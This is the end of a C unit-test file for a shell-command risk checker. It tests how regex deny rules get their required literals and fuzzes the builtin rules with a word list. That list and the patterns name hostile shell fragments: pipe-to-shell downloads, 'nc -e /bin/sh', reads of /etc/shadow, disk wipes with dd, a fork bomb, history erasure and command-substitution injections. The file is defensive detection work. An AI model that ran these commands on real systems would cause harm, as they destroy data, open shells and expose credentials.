	s = json_dumps(j, JSON_COMPACT);
	assert_string_equal(s, "[{\"level\":\"medium\",\"why\":\"does x\"}]");
	free(s);
	json_decref(j);
	tdm_rules_free(rs);
	tdm_policy_free(p);
}

/* ---- the literal prefilter (relit.c) ------------------------------------ */

static void lits_are(const char *re, const char *const *want)
{
	struct tdm_relit r;
	size_t i, n = 0;

	assert_int_equal(tdm_relit_required(re, &r), 0);
	while (want[n] != NULL)
		n++;
	if (r.n != n) {
		fprintf(stderr, "%s: %zu literals:", re, r.n);
		for (i = 0; i < r.n; i++)
			fprintf(stderr, " [%s]", r.lit[i]);
		fprintf(stderr, "\n");
	}
	assert_int_equal(r.n, n);
	for (i = 0; i < n; i++)
		assert_string_equal(r.lit[i], want[i]);
	tdm_relit_free(&r);
}

static void test_required_literals(void **state)
{
	(void)state;
	lits_are("^([^ ]*/)?rm( |$)", (const char *[]){ "rm", NULL });
	lits_are("^(curl|wget) .*\\| *(ba)?sh",
		 (const char *[]){ "curl", "wget", NULL });
	lits_are("ab+c", (const char *[]){ "ab", NULL });
	lits_are("x(abc)+y", (const char *[]){ "abc", NULL });
	lits_are("\\.bashrc", (const char *[]){ ".bashrc", NULL });
	lits_are("a{2}bcd", (const char *[]){ "bcd", NULL });
	/* Nothing is required: the rule always runs. */
	lits_are("(rm|)x?", (const char *[]){ NULL });
	lits_are("rm*", (const char *[]){ "r", NULL });
	lits_are("[a-z]+", (const char *[]){ NULL });
	lits_are("(a|b)?", (const char *[]){ NULL });
	lits_are("x{0,3}", (const char *[]){ NULL });
	/* Escapes that are not characters require nothing themselves. */
	lits_are("\\brm\\b", (const char *[]){ "rm", NULL });
	lits_are("rm\\w+", (const char *[]){ "rm", NULL });
	lits_are("\\<rm", (const char *[]){ "rm", NULL });
	lits_are("(x)\\1", (const char *[]){ "x", NULL });
	/* Odd intervals, unbalanced groups: give up. */
	lits_are("rm{", (const char *[]){ NULL });
	lits_are("(rm", (const char *[]){ NULL });
	lits_are("rm)", (const char *[]){ NULL });
}

/* Every literal set is sound: a string the regex matches holds one. */
static void test_required_literals_are_sound_on_builtin_rules(void **state)
{
	/* clang-format off */
	static const char *const words[] = {
		"rm", "-rf", "/", "sudo", "curl", "http://x/i.sh", "|", "sh",
		"bash", "-c", "echo", ">", "/etc/passwd", ">>", "~/.bashrc",
		"iptables", "-F", "systemctl", "stop", "auditd", "crontab",
		"-e", "nc", "-e", "/bin/sh", "base64", "-d", "python3", "-c",
		"import os", "dd", "if=/dev/zero", "of=/dev/sda", "mkfs.ext4",
		"/dev/sdb1", "chmod", "u+s", "/usr/bin/x", "history", "-c",
		"unset", "HISTFILE", "alias", "ls=rm", "ssh-keygen", "tee",
		"/etc/sudoers", "usermod", "-aG", "sudo", "insmod", "x.ko",
		":(){ :|:& };:", "kubectl", "get", "secret", "-o", "yaml",
		"cat", "/etc/shadow", "scp", "a", "b:", "DROP TABLE users;",
		"psql", "-c", "find", "-delete", "shred", "wipefs", "-a",
		"$(echo", "cm0=", ")", "`id`", "&&", ";", "xargs", "eval",
	};
	/* clang-format on */
	struct tdm_policy *b = NULL;
	struct tdm_diag diag = { 0 };
	unsigned seed = 7;
	size_t i, k, tries;

	(void)state;
	assert_int_equal(tdm_policy_parse(tdm_builtin_rules,
					  (size_t)(tdm_builtin_rules_end -
						   tdm_builtin_rules),
					  "builtin.rules", &b, &diag),
			 0);
	tdm_diag_free(&diag);
	for (i = 0; i < b->nrules; i++) {
		struct tdm_relit r;
		regex_t re;

		assert_int_equal(tdm_relit_required(b->rules[i].pattern, &r),
				 0);
		assert_int_equal(regcomp(&re, b->rules[i].pattern,
					 REG_EXTENDED | REG_NOSUB),
				 0);
		for (tries = 0; tries < 3000; tries++) {
			char line[512];
			size_t n = 0, w = 1 + (size_t)(rand_r(&seed) % 8);
			bool found = false;

			for (k = 0; k < w && n < 400; k++)
				n += (size_t)snprintf(
					line + n, sizeof(line) - n, "%s%s",
					k ? " " : "",
					words[(size_t)rand_r(&seed) %
					      (sizeof(words) / sizeof(*words))]);
			if (regexec(&re, line, 0, NULL, 0) != 0)
				continue;
			for (k = 0; k < r.n && !found; k++)
				found = strstr(line, r.lit[k]) != NULL;
			if (r.n > 0 && !found)
				fprintf(stderr,
					"builtin.rules:%d matches "
					"\"%s\" without its literals\n",
					b->rules[i].line, line);
			assert_true(r.n == 0 || found);
		}
		regfree(&re);
		tdm_relit_free(&r);
	}
	tdm_policy_free(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_command_table_verdicts),
		cmocka_unit_test(test_judging_frees_what_it_compiled),
		cmocka_unit_test(
			test_kept_patterns_judge_the_same_and_are_freed_when_let_go),
		cmocka_unit_test(test_builtin_sentences_are_short_and_plain),
		cmocka_unit_test(test_jargon_check_can_fail),
		cmocka_unit_test(test_policy_rules_come_first_and_deny_wins),
		cmocka_unit_test(test_builtin_rules_off_loads_none),
		cmocka_unit_test(test_hidden_characters_and_tabs),
		cmocka_unit_test(
			test_a_line_longer_than_a_terminal_takes_is_judged_as_cut),
		cmocka_unit_test(
			test_line_breaks_of_earlier_lines_and_input_are_not_hidden),
		cmocka_unit_test(
			test_a_typed_line_is_judged_as_its_editing_keys_leave_it),
		cmocka_unit_test(test_letters_beyond_plain_english_are_a_risk),
		cmocka_unit_test(
			test_a_full_risk_list_keeps_the_worst_and_the_lines_own),
		cmocka_unit_test(test_a_nul_does_not_hide_the_rest_of_the_line),
		cmocka_unit_test(test_open_and_deep_lines_are_risks),
		cmocka_unit_test(test_verdict_json_shape),
		cmocka_unit_test(test_a_slow_line_becomes_a_critical_risk),
		cmocka_unit_test(
			test_every_deny_rule_is_checked_before_any_flag),
		cmocka_unit_test(test_own_sentences_are_plain),
		cmocka_unit_test(test_required_literals),
		cmocka_unit_test(
			test_required_literals_are_sound_on_builtin_rules),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
